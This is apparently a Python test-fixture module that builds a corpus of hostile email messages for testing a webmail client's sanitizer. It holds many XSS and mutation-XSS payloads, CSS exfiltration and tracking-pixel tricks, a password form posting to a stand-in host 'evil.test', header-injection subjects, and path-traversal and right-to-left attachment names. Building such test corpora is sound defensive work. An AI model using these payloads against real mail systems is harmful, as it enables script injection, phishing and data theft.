"""Mail that tries to run, load, leave, lie or break something; as data. `CANARY` is what a script of it would say.

Whatever a piece asks for outside is asked of a host of its own under `OUTSIDE`, so that it can be told which did.
"""

# ruff: noqa: E501 - tricks stand in one line

from __future__ import annotations

import base64
from dataclasses import dataclass
from typing import Final
from urllib.parse import quote

CANARY: Final = "canary-sang"
OUTSIDE: Final = "evil.test"
_JS: Final = f"console.log('{CANARY}');top.name='{CANARY}';alert('{CANARY}')"
_SVG: Final = f"<svg xmlns='http://www.w3.org/2000/svg' onload=\"{_JS}\"><script>{_JS}</script></svg>"
_PIXEL: Final = base64.b64encode(b"\x89PNG\r\n\x1a\n picture").decode()


@dataclass(frozen=True, slots=True)
class Piece:
    """One mail. `name` is also what its subject begins with, where the subject is not the trick."""

    name: str
    raw: bytes


# In these: JS runs the canary, SVG is a picture that does, OUT is the piece's own host outside.
_HTML: Final[dict[str, str]] = {
    # scripts
    "script": "<script>JS</script>",
    "script-from-outside": '<script src="http://OUT/x.js"></script>',
    "script-spelled-oddly": "<ScRiPt\n >JS</sCrIpT\n >",
    "script-slashed": "<script/x/y>JS</script/z>",
    "script-unclosed": "<script>JS//",
    "script-module": '<script type="module">JS</script><script type=module src="http://OUT/m.js"></script>',
    "script-of-data": '<script src="data:text/javascript,JS"></script>',
    "script-after-the-end": "</body></html><script>JS</script>",
    "script-behind-nul": "<scr\0ipt>JS</scr\0ipt><\0script>JS</script>",
    "script-speculation": '<script type="speculationrules">{"prefetch":[{"urls":["http://OUT/s"]}]}</script>',
    "import-map": '<script type="importmap">{"imports":{"a":"http://OUT/a.js"}}</script><script type=module>import "a"</script>',
    # event handlers
    "img-onerror": '<img src=x onerror="JS">',
    "img-onerror-slashed": '<img/src="x"/onerror="JS">',
    "img-unclosed": '<img src="data:image/png;base64,x" onerror="JS" ',
    "body-onload": '<body onload="JS" onpageshow="JS" onfocus="JS">',
    "svg-onload": '<svg onload="JS"></svg>',
    "details-ontoggle": '<details open ontoggle="JS">x</details>',
    "input-autofocus": '<input autofocus onfocus="JS"><textarea autofocus onfocus="JS"></textarea>',
    "marquee-onstart": '<marquee onstart="JS">x</marquee>',
    "source-onerror": '<video><source onerror="JS" src=x></video><audio src=x onerror="JS"></audio>',
    "animation-event": '<style>@keyframes k{}</style><p style="animation:k 1ms" onanimationstart="JS">x</p>',
    "transition-event": '<style>p{transition:color 1ms}p:hover{color:red}</style><p ontransitionend="JS" onmouseover="JS">x</p>',
    "popover-event": '<div popover onbeforetoggle="JS" id=p>x</div><button id=click popovertarget=p>click</button>',
    # addresses that run
    "a-javascript": '<a id=click href="javascript:JS">click</a>',
    "a-javascript-disguised": '<a id=click href=" java&#x0A;scr&Tab;ipt&colon;JS">click</a>',
    "a-javascript-in-frame": '<a id=click target=_self href="javascript:JS">click</a>',
    "a-data": '<a id=click target=_self href="data:text/html,<script>JS</script>">click</a>',
    "a-vbscript": '<a id=click target=_self href="vbscript:msgbox(1)">click</a>',
    "a-top": '<a id=click target=_top href="http://OUT/top">click</a>',
    "a-parent": '<a id=click target=_parent href="http://OUT/parent">click</a>',
    "a-self": '<a id=click target=_self href="http://OUT/self">click</a>',
    "a-self-to-us": '<a id=click target=_self href="/ui/sign-in">click</a>',
    "a-ping": '<a id=click target=_self ping="http://OUT/ping" href="#here">click</a><p id=here>',
    "a-download": '<a id=click target=_self download href="data:text/html,JS">click</a>',
    "area-javascript": '<map name=m><area id=click shape=default href="javascript:JS"></map><img usemap="#m" width=50 height=50>',
    # frames and plug-ins
    "iframe-javascript": '<iframe src="javascript:JS"></iframe>',
    "iframe-srcdoc": '<iframe srcdoc="<script>JS</script>"></iframe>',
    "iframe-data": '<iframe src="data:text/html,<script>JS</script>"></iframe>',
    "iframe-outside": '<iframe src="http://OUT/f"></iframe>',
    "frameset": '<frameset><frame src="http://OUT/g"><frame src="javascript:JS"></frameset>',
    "iframe-odd": '<IFRAME/src="http://OUT/f"></iframe><iframe\tsrc=//OUT/g><li<iframe src=http://OUT/h>',
    "iframe-srcdoc-outside": '<iframe srcdoc="<iframe src=http://OUT/f></iframe><link rel=preconnect href=http://OUT/>"></iframe>',
    "iframe-of-us": '<iframe src="/ui/system"></iframe><iframe src="/" sandbox="allow-scripts allow-same-origin"></iframe>',
    "object": '<object data="http://OUT/o"></object><object data="data:text/html,<script>JS</script>"></object>',
    "embed": '<embed src="http://OUT/e"><embed type="image/svg+xml" src="data:image/svg+xml,SVG">',
    "applet": '<applet code="http://OUT/a.class"></applet><param name=src value="http://OUT/p">',
    "portal": '<portal src="http://OUT/p"></portal><fencedframe src="http://OUT/q"></fencedframe>',
    # leaving
    "meta-refresh": '<meta http-equiv="refresh" content="0;url=http://OUT/r">',
    "meta-refresh-javascript": '<meta http-equiv="refresh" content="0;url=javascript:JS">',
    "meta-refresh-data": '<meta http-equiv="refresh" content="0;url=data:text/html,<script>JS</script>">',
    "meta-refresh-to-us": '<meta http-equiv="refresh" content="0;url=/ui/sign-in">',
    "meta-policy": "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline' *; img-src *\">"
    '<script>JS</script><img src="http://OUT/p">',
    "meta-cookie": '<meta http-equiv="set-cookie" content="inboxd_session=fixed; path=/">',
    "meta-hints": '<meta http-equiv="x-dns-prefetch-control" content="on"><a href="http://OUT/">x</a>',
    "base-elsewhere": '<base href="http://OUT/"><img src="pixel.png"><a href="x">x</a>',
    "base-top": '<base target="_top"><a id=click href="http://OUT/b">click</a>',
    "form-outside": '<form id=f action="http://OUT/f"><input name=a value=b><button id=click>click</button></form>',
    "form-javascript": '<form><button id=click formaction="javascript:JS">click</button></form>',
    "form-to-us": '<form method=post action="/ui/sign-out" target=_top><button id=click>click</button></form>',
    "form-password": '<form action="http://OUT/p"><input type=password name=p autocomplete="current-password"><button id=click>click</button></form>',
    # styles
    "css-import": "<style>@import url(http://OUT/a.css); @import 'http://OUT/b.css';</style>",
    "css-url": "<style>body{background:url(http://OUT/u)}p{list-style-image:url('//OUT/l')}</style><p>x</p>",
    "css-attribute": '<p style="background-image:url(http://OUT/i);cursor:url(http://OUT/c),auto">x</p>',
    "css-escaped": r"<style>body{background:\75\72\6c(http://OUT/e)}</style>",
    "css-image-set": '<style>body{background:image-set("http://OUT/s" 1x)}p{content:url(http://OUT/c)}</style><p>x</p>',
    "css-expression": '<p style="width:expression(JS)">x</p>',
    "css-binding": '<style>p{-moz-binding:url(http://OUT/x.xml#a);behavior:url(http://OUT/x.htc)}</style><p>x</p>',
    "css-exfiltration": '<style>input[value^="a"]{background:url(http://OUT/a)}</style><input value="abc">',
    "css-overlay": '<style>html,body{position:fixed;inset:-9999px;z-index:2147483647;background:red}</style>'
    '<a style="position:fixed;inset:0" href="http://OUT/o">x</a>',
    "css-font": '<style>@font-face{font-family:f;src:url(http://OUT/f.woff2)}body{font-family:f}</style>x',
    "css-filter": '<style>p{filter:url(http://OUT/f.svg#a);mask:url(http://OUT/m.svg#b);clip-path:url(http://OUT/c)}</style><p>x</p>',
    "link-stylesheet": '<link rel="stylesheet" href="http://OUT/s.css"><LINK/rel="stylesheet"/href="//OUT/t.css">',
    # hints
    "link-preconnect": '<link rel="preconnect" href="http://OUT/"><link rel=preconnect href="https://OUT/">',
    "link-preconnect-odd": '<LiNk\trel="PreConnect"\nhref="http://OUT/"><link/rel="preconnect"/href="http://OUT/">',
    "link-preconnect-hidden": '<noscript><link rel=preconnect href="http://OUT/"></noscript><svg><p><link rel=preconnect'
    ' href="http://OUT/"></svg><!--><link rel=preconnect href="http://OUT/">--><li<link rel=preconnect href="http://OUT/">',
    "link-dns-prefetch": '<link rel="dns-prefetch" href="//OUT">',
    "link-prefetch": '<link rel="prefetch" href="http://OUT/p"><link rel="prerender" href="http://OUT/q">',
    "link-preload": '<link rel="preload" as="image" href="http://OUT/i"><link rel=modulepreload href="http://OUT/m.js">',
    "link-icon": '<link rel="icon" href="http://OUT/i.ico"><link rel="manifest" href="http://OUT/m.json">',
    # pictures, sound
    "pixel": '<img src="http://OUT/pixel.gif" width="1" height="1"><img src="//OUT/p"><img src="https://OUT/q">',
    "srcset": '<img srcset="http://OUT/a 1x, http://OUT/b 2x"><picture><source srcset="http://OUT/c"><img></picture>',
    "img-of-us": '<img src="/ui/enter?code=guess"><img src="/ui/mail">',
    "background": '<body background="http://OUT/b"><table background="http://OUT/t"><tr><td background="http://OUT/d">x</table>',
    "input-image": '<input type=image src="http://OUT/i">',
    "video": '<video poster="http://OUT/p" src="http://OUT/v" autoplay><track src="http://OUT/t" default></video>',
    "audio": '<audio src="http://OUT/a" autoplay></audio><bgsound src="http://OUT/b">',
    # SVG and MathML
    "svg-script": "<svg><script>JS</script><script href='http://OUT/x.js'/></svg>",
    "svg-foreign-object": '<svg><foreignObject><body onload="JS"><iframe src="javascript:JS"></iframe></foreignObject></svg>',
    "svg-use": '<svg><use href="http://OUT/u.svg#a"/><use href="data:image/svg+xml,SVG#a"/></svg>',
    "svg-animate": '<svg><a id=click><animate attributeName=href values="javascript:JS"/><text y=20>click</text></a></svg>',
    "svg-set": '<svg><set attributeName=onmouseover to="JS"/><animate onbegin="JS" attributeName=x dur=1s></svg>',
    "svg-image": '<svg><image href="http://OUT/i"/><filter id=f><feImage href="http://OUT/f"/></filter></svg>',
    "svg-img": '<img src="data:image/svg+xml,SVG">',
    "math": '<math><maction actiontype="statusline" xlink:href="javascript:JS">x</maction><mi href="javascript:JS">x</mi></math>',
    # markup that changes when it is read twice
    "mutation-noscript": '<noscript><p title="</noscript><img src=x onerror=JS>">',
    "mutation-style": "<svg><style><img src=x onerror=JS></style></svg><style><img title='</style><img src=x onerror=JS>'>",
    "mutation-title": "<svg><title><img src=x onerror=JS></title></svg><title></title><img src=x onerror=JS>",
    "mutation-mglyph": "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=JS&gt;'>",
    "mutation-form": "<form><math><mtext></form><form><mglyph><style></math><img src onerror=JS>",
    "mutation-template": "<template><script>JS</script></template><div><template shadowrootmode=open><img src=x onerror=JS></template></div>",
    "mutation-textarea": "<textarea></textarea><img src=x onerror=JS></textarea>",
    "mutation-comment": "<!--><img src=x onerror=JS>--><!--!><img src=x onerror=JS><![CDATA[><img src=x onerror=JS>]]>",
    "mutation-raw": "<xmp></xmp><img src=x onerror=JS></xmp><noembed></noembed><img src=x onerror=JS><plaintext><script>JS</script>",
    "mutation-select": "<select><template><script>JS</script></template><option><img src=x onerror=JS></select>",
    "conditional": "<!--[if gte IE 4]><script>JS</script><![endif]--><![if true]><img src=x onerror=JS><![endif]>",
    # too much of it
    "huge-table": "<table>" + "<tr>" + "<td>x</td>" * 200 + "</tr>" * 1 + ("<tr>" + "<td>y" * 50) * 40 + "</table>",
    "deep-nesting": "<div>" * 5_000 + "x",
    "deep-tables": "<table><tr><td>" * 2_000 + "x",
    "long-word": "A" * 50_000,
    "zero-width": "pass\u200bword \u202egnp.exe\u202c \u2066x\u2069",
    "amp": '<html ⚡4email><script async src="https://OUT/v0.js"></script><amp-img src="https://OUT/a.png" width=1 height=1></amp-img>',
    # pictures of the mail itself
    "cid-breaks-out": '<img src="cid:a&quot;><script>JS</script>"><img src="cid:picture"><iframe src="cid:picture"></iframe>',
}  # fmt: skip

# Names of attachments, and what they must not do to the name under which a download is offered.
NAMES: Final[dict[str, str]] = {
    "up": "../../../../etc/passwd",
    "up-with-backslashes": "..\\..\\Windows\\System32\\evil.dll",
    "absolute": "/root/.ssh/authorized_keys",
    "right-to-left": "invoice\u202efdp.exe",
    "isolated": "a\u2067b\u2069.\u200ftxt",
    "far-away-ending": "report.pdf" + " " * 120 + ".exe",
    "nul": "picture.png\0.exe",
    "endless": "x" * 3_000 + ".txt",
    "two-headers": "a\r\nSet-Cookie: inboxd_session=fixed\r\n\r\n<script>",
    "quotes": 'a"; filename="evil.exe',
    "markup": f'<img src=x onerror="{_JS}">.txt',
    "hidden": ".bashrc",
    "dots": "..",
    "nothing": " ",
    "device": "C:evil.txt:stream",
    "template": "{{ 7 * 7 }}%n%s.txt",
    "trailing": "evil.exe. . .",
}

# Attachments whose type says one thing, and whose name or bytes another.
_CONFUSED: Final[dict[str, tuple[str, str, str]]] = {
    "html-attached": ("text/html", "page.html", f"<script>{_JS}</script>"),
    "html-named-text": ("text/plain", "page.txt", f"<!doctype html><script>{_JS}</script>"),
    "html-as-octets": ("application/octet-stream", "page", f"<html><script>{_JS}</script>"),
    "svg-attached": ("image/svg+xml", "picture.svg", _SVG),
    "svg-named-png": ("image/png", "picture.png", _SVG),
    "xhtml-attached": ("application/xhtml+xml", "page.xhtml", f"<html xmlns='http://www.w3.org/1999/xhtml'>{_SVG}</html>"),
    "xml-with-style": ("text/xml", "a.xml", f"<?xml-stylesheet href='http://x.{OUTSIDE}/a.xsl' type='text/xsl'?><a/>"),
    "type-with-markup": ('text/html"><script>x', "a.bin", "x"),
    "type-twice": ("text/plain; charset=utf-8, text/html", "b.txt", f"<script>{_JS}</script>"),
    "javascript-attached": ("application/javascript", "a.js", _JS),
}  # fmt: skip

# Header fields, as they stand after "From: ...": each a mail with nothing else remarkable.
HEADERS: Final[dict[str, bytes]] = {
    "subject-markup": f'Subject: </title></bdi><script>{_JS}</script><img src=x onerror="{_JS}">'.encode(),
    "subject-attribute": f'Subject: " autofocus onfocus="{_JS}" x="'.encode(),
    "subject-encoded": f"Subject: =?utf-8?b?{base64.b64encode(f'<script>{_JS}</script>'.encode()).decode()}?=".encode(),
    "subject-two-lines": b"Subject: =?utf-8?q?a=0D=0ASet-Cookie:_x=3D1=0D=0A=0D=0A<script>?=",
    "subject-bidi": "Subject: \u202e\u2067drowssap\u200b ruoy \u202d".encode(),
    "subject-endless": b"Subject: " + b"W" * 10_000,
    "subject-wide": b"Subject: " + "\ufdfd\U0001f469\u200d\U0001f467".encode() * 300,
    "subject-template": b"Subject: {{ 7 * 7 }} {% include '/etc/passwd' %} ${7*7}",
    "subject-empty": b"Subject:",
    "from-markup": f'From: "<script>{_JS}</script>" <"><svg/onload={_JS}>"@{OUTSIDE}>\r\nSubject: from'.encode(),
    "from-many": b"From: " + b", ".join(b"n%d <n%d@x.test>" % (n, n) for n in range(500)) + b"\r\nSubject: from many",
    "to-markup": f"To: {', '.join(f'<img src=x onerror={_JS}> <a{n}@x.test>' for n in range(60))}\r\nSubject: to".encode(),
    "reply-to-markup": f'Reply-To: "\'><script>{_JS}</script>" <javascript:{_JS}@x.test>\r\nSubject: reply'.encode(),
    "header-names": f"X-<script>{_JS}</script>: <img src=x onerror={_JS}>\r\nSubject: names".encode(),
    "message-id": f"Message-ID: <<script>{_JS}</script>@x>\r\nSubject: id".encode(),
    "no-headers": b"",
}


def pieces() -> list[Piece]:
    """All of it."""
    return [
        *(_of_html(name, source) for name, source in _HTML.items()),
        *(_attached(f"name-{name}", "application/octet-stream", given, "x") for name, given in NAMES.items()),
        *(_attached(name, *rest) for name, rest in _CONFUSED.items()),
        *(_headed(name, field) for name, field in HEADERS.items()),
        *_STRUCTURES,
    ]


def html(name: str) -> str:
    """The HTML of the piece of that name."""
    source = _HTML[name].replace("OUT", f"{name}.{OUTSIDE}").replace("JS", _JS)
    return source.replace("SVG", quote(_SVG))


def _of_html(name: str, source: str) -> Piece:
    picture = (
        f"--b\r\nContent-Type: image/svg+xml\r\nContent-ID: <picture>\r\n\r\n{_SVG}\r\n"
        f'--b\r\nContent-Type: image/png\r\nContent-ID: <a"><script>{_JS}</script>>\r\n'
        f"Content-Transfer-Encoding: base64\r\n\r\n{_PIXEL}\r\n"
    )
    body = f"--b\r\nContent-Type: text/html; charset=utf-8\r\nContent-Transfer-Encoding: base64\r\n\r\n{_wrapped(html(name))}"
    related = f"{body}\r\n{picture if 'cid:' in source else ''}--b--\r\n"
    return Piece(name, _mail(name, f"Content-Type: multipart/related; boundary=b\r\n\r\n{related}".encode()))


def _attached(name: str, content_type: str, filename: str, content: str) -> Piece:
    told = f"filename*=utf-8''{quote(filename, safe='')}"
    return Piece(
        name,
        _mail(
            name,
            f"Content-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\nContent-Type: text/plain\r\n\r\nsee below\r\n"
            f"--b\r\nContent-Type: {content_type}\r\nContent-Disposition: attachment; {told}\r\n"
            f"Content-Transfer-Encoding: base64\r\n\r\n{_wrapped(content)}\r\n--b--\r\n".encode(),
        ),
    )


def _headed(name: str, field: bytes) -> Piece:
    return Piece(name, (field + b"\r\n" if field else b"") + b"\r\nnothing to see\r\n")


def _mail(name: str, rest: bytes) -> bytes:
    return (
        b"From: Mallory <mallory@%s>\r\nSubject: %s\r\nMIME-Version: 1.0\r\n" % (OUTSIDE.encode(), name.encode()) + rest
    )


def _wrapped(text: str) -> str:
    return base64.encodebytes(text.encode(errors="surrogatepass")).decode().replace("\n", "\r\n")


_SCRIPT: Final = f"<script>{_JS}</script>".encode()
_STRUCTURES: Final = (
    Piece("utf-7", _mail("utf-7", b"Content-Type: text/html; charset=utf-7\r\n\r\n+ADw-script+AD4-" + _JS.encode() + b"+ADw-/script+AD4-")),
    Piece("iso-2022-jp", _mail("iso-2022-jp", b"Content-Type: text/html; charset=iso-2022-jp\r\n\r\n\x1b$B<script>\x1b(B" + _SCRIPT)),
    Piece("utf-16", _mail("utf-16", b"Content-Type: text/html; charset=utf-16\r\nContent-Transfer-Encoding: base64\r\n\r\n"
          + base64.encodebytes(_SCRIPT.decode().encode("utf-16")))),
    Piece("no-such-charset", _mail("no-such-charset", b'Content-Type: text/html; charset="><script>"\r\n\r\n' + _SCRIPT)),
    Piece("text-that-is-html", _mail("text-that-is-html", b"Content-Type: text/plain\r\n\r\n" + _SCRIPT)),
    Piece("two-types", _mail("two-types", b"Content-Type: text/plain\r\nContent-Type: text/html\r\n\r\n" + _SCRIPT)),
    Piece("amp-part", _mail("amp-part", b"Content-Type: multipart/alternative; boundary=b\r\n\r\n--b\r\nContent-Type: text/x-amp-html\r\n\r\n"
          + _SCRIPT + b"\r\n--b\r\nContent-Type: text/plain\r\n\r\nplain\r\n--b--\r\n")),
    Piece("enclosed", _mail("enclosed", b"Content-Type: message/rfc822\r\n\r\nContent-Type: text/html\r\nSubject: inner\r\n\r\n" + _SCRIPT)),
    Piece("calendar", _mail("calendar", b"Content-Type: text/calendar\r\n\r\nBEGIN:VCALENDAR\r\nX-ALT-DESC:" + _SCRIPT)),
    Piece("boundary-unclosed", _mail("boundary-unclosed", b"Content-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\nContent-Type: text/html\r\n\r\n" + _SCRIPT)),
)  # fmt: skip
